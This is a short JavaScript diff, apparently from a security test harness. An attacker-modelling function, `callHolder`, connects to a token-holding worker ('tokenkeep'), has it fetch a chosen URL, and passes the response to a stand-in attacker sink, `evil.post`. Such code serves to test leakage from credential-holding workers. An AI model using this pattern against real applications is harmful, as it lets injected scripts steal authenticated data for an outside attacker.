@@ -9,11 +9,7 @@ export async function callLibrary(evil, { url }) {
  * sends the attacker the answer to a request for `url`.
  */
 export async function callHolder(evil, { url, mode }) {
-  const options = { type: "module", name: "tokenkeep", extendedLifetime: true };
-  const port = mode === "shared" ? new SharedWorker("/holder.js", options).port : new Worker("/holder.js", options);
-  const { ok, error } = await new Promise((resolve) => {
-    port.onmessage = ({ data }) => data.id === 1 && resolve(data);
-    port.postMessage({ v: 1, id: 1, op: "fetch", url, headers: [] });
-  });
+  const port = mode === "worker" ? new Worker("/holder.js", { type: "module", name: "tokenkeep" }) : await evil.connect();
+  const { ok, error } = await evil.asking(port)("fetch", { url, headers: [] });
   await evil.post(ok ? new TextDecoder().decode(ok.body) : error.code);
 }
